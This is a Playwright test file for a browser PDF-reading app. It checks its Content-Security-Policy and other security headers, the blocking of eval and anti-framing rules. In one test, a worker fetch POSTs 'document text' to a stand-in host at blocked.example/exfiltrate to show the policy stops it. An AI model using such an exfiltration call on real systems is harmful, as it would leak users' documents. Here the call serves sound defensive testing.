import net from "node:net";
import { expect, test, type Page, type Worker } from "@playwright/test";
import { dropFile, trackPageErrors, waitForIngest } from "./fixtures";
import { sharedFixture } from "../src/testing/shared-fixtures";

const TRACEMONKEY = sharedFixture("pdfs/ok/tracemonkey.pdf");
const BLOCKED = "https://blocked.example";
const ALLOWED = "https://api.openai.com";

/** Opens a PDF so the page painter (the reader's pdf.js) and the reading worker are running. */
async function openWithWorkers(page: Page): Promise<Worker[]> {
  await page.goto("/");
  await dropFile(page, TRACEMONKEY);
  expect(await waitForIngest(page, "tracemonkey.pdf")).toBe("ready");
  await expect.poll(() => page.workers().some((w) => /painter-worker/.test(w.url()))).toBe(true);
  return page.workers().filter((w) => new URL(w.url()).origin === new URL(page.url()).origin);
}

function expectSecurityHeaders(headers: Record<string, string>, what: string): void {
  const csp = headers["content-security-policy"] ?? "";
  expect(csp, what).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(csp, what).toContain("frame-ancestors 'none'");
  expect(csp, what).toMatch(/connect-src 'self'[ ;]/);
  expect(csp, what).not.toMatch(/connect-src[^;]* https:(\s|;|$)/);
  expect(csp, what).not.toContain("'unsafe-eval'");
  expect(headers["x-content-type-options"], what).toBe("nosniff");
  expect(headers["referrer-policy"], what).toBe("no-referrer");
  expect(headers["permissions-policy"], what).toContain("camera=()");
}

test("every response carries the security headers: the page, worker scripts, assets and proxy refusals", async ({
  page,
  request,
}) => {
  const errors = trackPageErrors(page);
  const workers = await openWithWorkers(page);
  expect(workers.length).toBeGreaterThanOrEqual(2);
  const home = await request.get("/");
  expectSecurityHeaders(home.headers(), "/");
  // The meta tag stays for hosts that send no headers.
  expect(await home.text()).toContain('http-equiv="Content-Security-Policy"');
  for (const w of workers) expectSecurityHeaders((await request.get(w.url())).headers(), w.url());
  expectSecurityHeaders((await request.get("/favicon.svg")).headers(), "/favicon.svg");
  expectSecurityHeaders((await request.post("/api/chat/v1/files", { data: "{}" })).headers(), "proxy refusal");
  // Static hosts get the same headers from the build's _headers file.
  const file = await (await request.get("/_headers")).text();
  expect(file).toMatch(/^\/\*$/m);
  expect(file).toContain("frame-ancestors 'none'");
  const painter = workers.find((w) => /painter-worker/.test(w.url()))!;
  expect(file).toContain(`${new URL(painter.url()).pathname}\n  Content-Security-Policy:`);
  expect(errors).toEqual([]);
});

test(
  "inside the workers that parse PDFs, string-eval is blocked and so is a fetch to an origin the policy leaves " +
    "out",
  async ({ page, context }) => {
    const reached: string[] = [];
    for (const origin of [BLOCKED, ALLOWED]) {
      await context.route(
        `${origin}/**`,
        (route) => (reached.push(route.request().url()), route.fulfill({ status: 200, body: "reached" })),
      );
    }
    const workers = await openWithWorkers(page);
    for (const w of workers) {
      const outcome = await w.evaluate(
        async ([blocked, allowed]) => {
          // Run on a later task: DevTools lets code evaluated by the test itself eval freely.
          const attempt = (fn: () => unknown) =>
            new Promise<string>((resolve) =>
              setTimeout(async () => {
                try {
                  resolve(String(await fn()));
                } catch (e) {
                  resolve((e as Error).name);
                }
              }),
            );
          return {
            eval: await attempt(() => (0, eval)("6 * 7")),
            newFunction: await attempt(() => new Function("return 6 * 7")()),
            blocked: await attempt(
              async () => (await fetch(`${blocked}/exfiltrate`, { method: "POST", body: "document text" })).status,
            ),
            // Control: the same fetch to an allowed origin is answered, so the failure above is the
            // policy, not the network.
            allowed: await attempt(async () => (await fetch(`${allowed}/v1/models`)).status),
          };
        },
        [BLOCKED, ALLOWED],
      );
      // The workers that parse or draw PDFs reach no server but the app's own, not even an allowed model API.
      const parsesPdfs = /(layout-worker|painter-worker|pdf\.worker|pdf\.renderer)[^/]*$/.test(
        new URL(w.url()).pathname,
      );
      expect(outcome, w.url()).toEqual({
        eval: "EvalError",
        newFunction: "EvalError",
        blocked: "TypeError",
        allowed: parsesPdfs ? "TypeError" : "200",
      });
    }
    expect(workers.some((w) => /painter-worker/.test(w.url()))).toBe(true);
    expect(reached.filter((u) => u.startsWith(BLOCKED))).toEqual([]);
    // Only the reading worker (model calls) reached the allowed origin: so route interception works in workers.
    expect(reached.filter((u) => u.startsWith(ALLOWED)).length).toBe(
      workers.filter((w) => /reading-worker/.test(w.url())).length,
    );
    expect(reached.length).toBeGreaterThan(0);
  },
);

test("no page can frame the app, not even one of its own origin", async ({ page }) => {
  // frame-ancestors 'none' refuses every parent. A parent on the app's own origin is the
  // case nothing else (mixed content, private-network rules) would refuse, so it shows the header at work.
  await page.route("**/framer.html", (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="/"></iframe>` }),
  );
  await page.goto("/framer.html");
  const child = () => page.frames().find((f) => f !== page.mainFrame());
  await expect.poll(() => child()?.url() ?? "", { timeout: 10_000 }).not.toBe("");
  await page.waitForTimeout(1500);
  expect(await child()!.locator('[data-testid="app"]').count()).toBe(0);
});

test("the Models dialog says when a server can only be reached through the proxy", async ({ page }) => {
  await page.goto("/");
  await page.getByRole("button", { name: "Models" }).click();
  const dialog = page.getByRole("dialog");
  const chatBase = dialog.getByLabel("Base URL", { exact: true }).nth(1);
  await chatBase.fill("https://models.example.com/v1");
  const note = dialog.getByTestId("direct-call-blocked");
  await expect(note).toContainText("does not let the browser call https://models.example.com directly");
  await expect(note).toContainText("PINCITE_CHAT_UPSTREAM=https://models.example.com and enter /api/chat");
  await dialog.getByRole("button", { name: "Test connection" }).nth(1).click();
  await expect(dialog.getByTestId("connection-result")).toContainText("PINCITE_CONNECT_SRC");
  for (const allowed of ["http://127.0.0.1:11434", "https://openrouter.ai/api/v1", "/api/chat"]) {
    await chatBase.fill(allowed);
    await expect(note).toHaveCount(0);
  }
});

/** One request written byte for byte, as no HTTP client would send it; the raw reply. */
function rawExchange(base: string, request: string): Promise<string> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(port), hostname);
    const chunks: Buffer[] = [];
    socket.on("data", (c: Buffer) => chunks.push(c));
    socket.on("close", () => resolve(Buffer.concat(chunks).toString("latin1")));
    socket.on("error", reject);
    socket.end(request, "latin1");
  });
}

test("requests the server cannot parse are refused with the security headers too", async ({ baseURL }) => {
  for (const [request, status] of [
    [`GET / HTTP/1.1\r\nHost: x\r\nX-Big: ${"a".repeat(20_000)}\r\n\r\n`, "431"],
    ["GET /a\u0001b HTTP/1.1\r\nHost: x\r\n\r\n", "400"],
    ["GET /\u00e9 HTTP/1.1\r\nHost: x\r\n\r\n", "400"],
  ]) {
    const reply = await rawExchange(baseURL!, request);
    const [head] = reply.split("\r\n\r\n");
    expect(head.split("\r\n")[0]).toBe(
      `HTTP/1.1 ${status} ${status === "431" ? "Request Header Fields Too Large" : "Bad Request"}`,
    );
    const headers = Object.fromEntries(
      head
        .split("\r\n")
        .slice(1)
        .map((l) => [l.slice(0, l.indexOf(":")).toLowerCase(), l.slice(l.indexOf(":") + 1).trim()]),
    );
    expectSecurityHeaders(headers, request.slice(0, 20));
  }
});
